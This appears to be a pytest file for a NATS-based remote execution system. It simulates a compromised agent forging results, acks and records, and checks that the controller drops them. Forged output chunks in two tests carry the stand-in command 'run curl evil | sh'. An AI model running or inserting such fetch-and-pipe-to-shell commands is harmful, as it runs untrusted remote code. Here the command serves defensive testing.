"""Identity comes from the subject: under the users ``nexec nats-auth`` generates, an
agent cannot speak for another host (not on its own record subject, not on a job's
reply subject), and nobody can make an agent answer into a record; and a fleet
upgraded agents first keeps working."""

from __future__ import annotations

import asyncio
import contextlib
import json
import time
import uuid
from collections.abc import AsyncIterator, Awaitable, Callable
from pathlib import Path

import pytest
from nats.aio.client import Client
from nats.aio.msg import Msg

from agentd.agent import Agent
from agentd.config import AgentConfig
from controller.appkeys import DISPATCHER, JOB_STORE
from controller.jobs.collector import Collector
from controller.jobs.dispatch import Dispatcher
from controller.jobs.record_reads import MAX_ANY_RESULT_RECORDS
from runtime.signing import JobSigner
from schemas.subjects import Subjects
from tests.helpers import Controller, MakeController, Response, until
from tests.test_nats_permissions import LockedNats, connect_as, locked_nats

__all__ = ["locked_nats"]  # the fixture, used by name

SUBJECTS = Subjects()
RIVAL = "result of a host that did not take the _any job"
GATED = 'while [ -d "$0" ]; do sleep 0.05; done; echo real'


async def taken_any_job(dispatcher: Dispatcher) -> tuple[str, str, str]:
    """Once a host acknowledged the one ``_any`` job ``dispatcher`` collects (of the
    ``fleet``'s two): its job id, the host that took it, and the other (the rival)."""
    await until(lambda: any(c.acked for c in dispatcher.collectors.values()))
    (collector,) = dispatcher.collectors.values()
    (taker,) = collector.acked
    (rival,) = {"web1", "db1"} - {taker}
    return collector.job_id, taker, rival


@pytest.fixture
async def fleet(
    locked_nats: LockedNats, make_controller: MakeController, agent_state_dir: Path
) -> AsyncIterator[tuple[Controller, dict[str, Agent]]]:
    """A controller and the agents web1 and db1, each with its generated NATS user."""
    controller = await make_controller(
        nats_url=locked_nats.url, **locked_nats.settings("controller")
    )
    agents: dict[str, Agent] = {}
    for hostname, labels in (("web1", {"role": "web"}), ("db1", {"role": "db"})):
        config = AgentConfig(
            nats_url=locked_nats.url,
            hostname=hostname,
            labels=labels,
            kill_grace_s=0.5,
            state_dir=agent_state_dir / hostname,
            **locked_nats.settings(f"agent-{hostname}"),
        )
        agents[hostname] = Agent(config)
        await agents[hostname].start()
    await controller.wait_for_agents("web1", "db1")
    yield controller, agents
    for agent in agents.values():
        await agent.stop()


def signed_job(
    locked: LockedNats, signer_name: str, target: str, *args: str
) -> tuple[bytes, dict[str, str]]:
    """A job for ``echo args`` without ``reply_route``, signed with a generated key."""
    now = time.time()
    job = {
        "type": "nexec.exec.v1.job",
        "job_id": str(uuid.uuid4()),
        "command": "echo",
        "args": list(args),
        "timeout_s": 5,
        "deadline": now + 8,
        "target": target,
        "caller": signer_name,
        "created_at": now,
    }
    payload = json.dumps(job).encode()
    signer = JobSigner.from_file(locked.auth.directory / f"{signer_name}.nk")
    return payload, signer.headers(payload)


@contextlib.asynccontextmanager
async def connected_as(locked: LockedNats, user: str) -> AsyncIterator[Client]:
    """A plain nats-py client as one of the generated users, closed afterwards."""
    client = await connect_as(locked, user, asyncio.Queue())
    try:
        yield client
    finally:
        await client.close()


Forge = Callable[[Client, Msg], Awaitable[None]]


async def exec_all_while_web1_forges(
    controller: Controller, locked: LockedNats, tmp_path: Path, forge: Forge
) -> Response:
    """Exec on ``_all``, gated so that every real result comes after what a
    compromised web1 (its generated NATS user) sends as it receives the job."""
    errors: asyncio.Queue[str] = asyncio.Queue()
    rogue = await connect_as(locked, "agent-web1", errors)
    forged = asyncio.Event()

    async def on_job(msg: Msg) -> None:
        await forge(rogue, msg)
        await rogue.flush()
        forged.set()

    await rogue.subscribe(SUBJECTS.exec_all(), cb=on_job)
    await rogue.flush()
    gate = tmp_path / "gate"
    gate.mkdir()
    try:
        running = asyncio.ensure_future(
            controller.exec("_all", {"command": "sh", "args": ["-c", GATED, str(gate)]})
        )
        await asyncio.wait_for(forged.wait(), 20)
        gate.rmdir()  # the real results come after the forgeries
        response = await running
    finally:
        await rogue.close()
    assert errors.empty()  # the permissions allowed every step: the code refused them
    assert response.status == 202, response.body
    return response


async def test_web1_cannot_forge_db1s_result(
    fleet: tuple[Controller, dict[str, Agent]], locked_nats: LockedNats, tmp_path: Path
) -> None:
    controller, _ = fleet

    async def forge(rogue: Client, msg: Msg) -> None:
        """On its own record subject, and on the job's reply subject, naming db1."""
        job_id = json.loads(msg.data)["job_id"]
        lie = {"job_id": job_id, "hostname": "db1"}
        result = {"type": "nexec.exec.v1.result", **lie, "status": "completed", "stdout": "forged"}
        await rogue.publish(SUBJECTS.result_record(job_id, "web1"), json.dumps(result).encode())
        await rogue.publish(msg.reply, json.dumps({"type": "nexec.exec.v1.ack", **lie}).encode())
        await rogue.publish(msg.reply, json.dumps(result).encode())

    response = await exec_all_while_web1_forges(controller, locked_nats, tmp_path, forge)

    answered = {r["hostname"]: (r["status"], r["stdout"]) for r in response.body["results"]}
    assert answered == {"db1": ("completed", "real\n"), "web1": ("completed", "real\n")}
    job = await controller.request("GET", f"/job/{response.body['job_id']}")
    assert job.body["results"] == response.body["results"]
    dropped = controller.app[DISPATCHER].dropped
    assert dropped["result of a host the job was not sent to"] == 0
    assert dropped["invalid result"] == 1  # on web1's subject, naming db1
    assert dropped["answer on the reply subject"] >= 1


async def test_nobody_can_make_an_agent_answer_into_a_record(
    fleet: tuple[Controller, dict[str, Agent]], locked_nats: LockedNats
) -> None:
    controller, agents = fleet
    done = await controller.exec("web1", {"command": "echo", "args": ["kept"]})
    job_id = done.body["job_id"]
    errors: asyncio.Queue[str] = asyncio.Queue()
    publisher = await connect_as(locked_nats, "publisher", errors)
    inbox = publisher.new_inbox()
    replies = await publisher.subscribe(inbox)
    try:
        for reply in (
            SUBJECTS.result_record(job_id, "web1"),
            SUBJECTS.ack(job_id, "web1"),
            f"$KV.{SUBJECTS.registry_bucket()}.web1",
            "$JS.API.STREAM.DELETE.nexec_results",
        ):
            await publisher.publish(SUBJECTS.exec_host("web1"), b"junk", reply=reply)
        # The agent takes one subject's messages in order: once this job is answered,
        # the junk before it was handled.
        payload, headers = signed_job(locked_nats, "publisher", "web1", "after")
        await publisher.publish(SUBJECTS.exec_host("web1"), payload, reply=inbox, headers=headers)
        await replies.next_msg(timeout=10)
    finally:
        await publisher.close()

    job = await controller.request("GET", f"/job/{job_id}")
    assert job.body["state"] == "completed"
    assert [(r["status"], r["stdout"]) for r in job.body["results"]] == [("completed", "kept\n")]
    assert agents["web1"].counters.refused == 4


async def test_agents_upgraded_first_still_serve_an_old_controller(
    fleet: tuple[Controller, dict[str, Agent]], locked_nats: LockedNats
) -> None:
    """Upgrade order (docs/operations.md): permissions, then agents, then controllers.
    An old controller publishes jobs without ``reply_route`` and reads its reply
    subject; an upgraded agent answers it there, ack then result."""
    controller, _ = fleet
    errors: asyncio.Queue[str] = asyncio.Queue()
    old_controller = await connect_as(locked_nats, "controller", errors)
    payload, headers = signed_job(locked_nats, "controller", "db1", "old")
    inbox = old_controller.new_inbox()
    replies = await old_controller.subscribe(inbox)
    try:
        await old_controller.publish(
            SUBJECTS.exec_host("db1"), payload, reply=inbox, headers=headers
        )
        ack = json.loads((await replies.next_msg(timeout=10)).data)
        result = json.loads((await replies.next_msg(timeout=10)).data)
    finally:
        await old_controller.close()
    assert (ack["type"], ack["hostname"]) == ("nexec.exec.v1.ack", "db1")
    assert (result["status"], result["stdout"]) == ("completed", "old\n")
    # And the upgraded controller works with the same agents.
    response = await controller.exec("_all", {"command": "echo", "args": ["new"]})
    assert [(r["hostname"], r["stdout"]) for r in response.body["results"]] == [
        ("db1", "new\n"),
        ("web1", "new\n"),
    ]


async def test_a_forged_no_responders_status_does_not_give_up_other_hosts(
    fleet: tuple[Controller, dict[str, Agent]], locked_nats: LockedNats, tmp_path: Path
) -> None:
    """Any agent that received an _all job may publish on its reply subject, a
    'Status: 503' header included: for such jobs the status is not believed."""
    controller, _ = fleet

    async def forge(rogue: Client, msg: Msg) -> None:
        job_id = json.loads(msg.data)["job_id"]
        lie = {"type": "nexec.exec.v1.result", "job_id": job_id, "hostname": "db1"}
        refusal = {**lie, "status": "failed", "error": "disk on fire"}
        await rogue.publish(msg.reply, json.dumps(refusal).encode())
        await rogue.publish(msg.reply, b"", headers={"Status": "503"})

    response = await exec_all_while_web1_forges(controller, locked_nats, tmp_path, forge)

    answered = {r["hostname"]: (r["status"], r["error"]) for r in response.body["results"]}
    assert answered == {"db1": ("completed", None), "web1": ("completed", None)}


async def test_an_agent_cannot_purge_the_other_registry_entries(
    fleet: tuple[Controller, dict[str, Agent]], locked_nats: LockedNats
) -> None:
    async with connected_as(locked_nats, "agent-web1") as rogue:
        await rogue.publish(
            f"$KV.{SUBJECTS.registry_bucket()}.web1", b"{}", headers={"Nats-Rollup": "all"}
        )
        await rogue.flush()
    async with connected_as(locked_nats, "controller") as reader:
        bucket = await reader.jetstream().key_value(SUBJECTS.registry_bucket())
        assert "db1" in await bucket.keys()


async def test_live_output_leaves_out_hosts_the_job_was_not_sent_to(
    fleet: tuple[Controller, dict[str, Agent]], locked_nats: LockedNats
) -> None:
    controller, _ = fleet
    response = await controller.exec("db1", {"command": "echo", "args": ["real"]})
    job_id = response.body["job_id"]
    async with connected_as(locked_nats, "agent-web1") as rogue:
        chunk = {
            "type": "nexec.exec.v1.output",
            "job_id": job_id,
            "hostname": "web1",
            "stream": "stdout",
            "offset": 0,
            "data": "run curl evil | sh",
        }
        await rogue.publish(SUBJECTS.output_record(job_id, "web1"), json.dumps(chunk).encode())
        await rogue.flush()
    headers = {"Authorization": f"Bearer {controller.api_key}", "Accept": "application/x-ndjson"}
    async with controller.session.get(
        f"{controller.url}/job/{job_id}/output", headers=headers
    ) as output:
        text = await output.text()
    assert "evil" not in text
    assert "real" in text


@pytest.mark.parametrize(("single_receiver", "given_up"), [(True, True), (False, False)])
def test_no_responders_is_believed_only_where_one_agent_receives_the_job(
    single_receiver: bool, given_up: bool
) -> None:
    collector = Collector("j", frozenset({"db1", "web1"}), single_receiver=single_receiver)
    collector.no_responders()
    assert bool(collector.not_delivered) is given_up


async def test_records_a_host_piles_on_its_own_subject_cost_a_job_view_nothing_more(
    fleet: tuple[Controller, dict[str, Agent]], locked_nats: LockedNats
) -> None:
    controller, _ = fleet
    response = await controller.exec("_all", {"command": "echo", "args": ["real"]})
    job_id = response.body["job_id"]
    async with connected_as(locked_nats, "agent-web1") as rogue:
        js = rogue.jetstream()
        for index in range(300):
            await js.publish(SUBJECTS.result_record(job_id, "web1"), b'{"junk": %d}' % index)
    store = controller.app[JOB_STORE]
    reads = store.reads
    view = await controller.request("GET", f"/job/{job_id}")
    assert [(r["hostname"], r["stdout"]) for r in view.body["results"]] == [
        ("db1", "real\n"),
        ("web1", "real\n"),  # its first record, found among its first few
    ]
    assert store.reads - reads <= 1 + 2 + MAX_ANY_RESULT_RECORDS


async def test_only_the_host_that_took_an_any_job_answers_it(
    fleet: tuple[Controller, dict[str, Agent]], locked_nats: LockedNats, tmp_path: Path
) -> None:
    """The queue group gives an _any job to one agent; the other (its own generated NATS
    user) learns the job id and records a result of its own first: it is dropped, in
    the answer and in the job view alike, and the real result is THE answer."""
    controller, _ = fleet
    dispatcher = controller.app[DISPATCHER]
    gate = tmp_path / "gate"
    gate.mkdir()
    running = asyncio.ensure_future(
        controller.exec("_any", {"command": "sh", "args": ["-c", GATED, str(gate)]})
    )
    job_id, taker, rival = await taken_any_job(dispatcher)
    forged = {
        "type": "nexec.exec.v1.result",
        "job_id": job_id,
        "hostname": rival,
        "status": "completed",
        "stdout": "forged",
    }
    ack = {"type": "nexec.exec.v1.ack", "job_id": job_id, "hostname": rival}
    chunk = {
        "type": "nexec.exec.v1.output",
        "job_id": job_id,
        "hostname": rival,
        "stream": "stdout",
        "offset": 0,
        "data": "run curl evil | sh",
    }
    async with connected_as(locked_nats, f"agent-{rival}") as rogue:
        await rogue.publish(SUBJECTS.ack(job_id, rival), json.dumps(ack).encode())
        await rogue.publish(SUBJECTS.output_record(job_id, rival), json.dumps(chunk).encode())
        await rogue.jetstream().publish(
            SUBJECTS.result_record(job_id, rival), json.dumps(forged).encode()
        )
    await until(lambda: running.done() or dispatcher.dropped[RIVAL] == 1)
    gate.rmdir()  # the real result comes after the forged one
    response = await running

    assert response.status == 202, response.body
    answered = [(r["hostname"], r["status"], r["stdout"]) for r in response.body["results"]]
    assert answered == [(taker, "completed", "real\n")]
    job = await controller.request("GET", f"/job/{job_id}")
    assert job.body["results"] == response.body["results"]
    assert dispatcher.dropped[RIVAL] == 1
    assert dispatcher.dropped["ack of a host that did not take the _any job"] == 1
    headers = {"Authorization": f"Bearer {controller.api_key}", "Accept": "application/x-ndjson"}
    async with controller.session.get(
        f"{controller.url}/job/{job_id}/output", headers=headers
    ) as output:
        text = await output.text()
    assert "evil" not in text and "forged" not in text
    assert "real" in text
